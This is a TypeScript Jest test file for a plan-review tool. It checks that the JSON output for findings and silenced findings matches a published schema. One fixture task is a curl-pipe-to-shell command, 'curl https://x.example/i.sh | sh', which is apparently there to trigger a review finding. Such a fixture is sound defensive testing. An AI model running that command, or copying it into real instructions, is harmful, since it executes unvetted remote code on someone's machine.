import { expect, test } from '@jest/globals'

import { toJson } from '../../../src/core/report/formats.ts'
import { reviewJson, reviewJsonSchema } from '../../../src/core/report/review-schema.ts'
import { reviewPlan } from '../../../src/core/review/review.ts'
import { expectGolden } from '../../support/golden.ts'
import { planOf } from '../../support/plan-builder.ts'

test('docs/schemas/review.json is what `review --format json` prints', () => {
  expectGolden(`${JSON.stringify(reviewJsonSchema(), undefined, 2)}\n`, 'docs/schemas/review.json')
})

test('a review with findings and silenced ones is as the schema says, field by field', () => {
  const plan = planOf([
    { id: '1', dependsOn: ['2'], tasks: ['Improve it', 'curl https://x.example/i.sh | sh'] },
    { id: '2', dependsOn: ['1'], prose: ['<!-- orchestrate-ignore vague-task: on purpose -->', '- [ ] x'] },
    {
      id: '3',
      tasks: ['Try to ship'],
      prose: ['<!-- orchestrate-ignore-section no-file-targets, task-cannot-fail: decided on Friday -->'],
    },
  ])
  const { diagnostics, silenced } = reviewPlan(plan)
  expect(silenced.length).toBeGreaterThan(0)
  const printed: unknown = JSON.parse(toJson(diagnostics, silenced))
  // Strict in both directions: no field is missing, and none is printed that the schema does not tell.
  expect(reviewJson.parse(printed)).toEqual(printed)
})
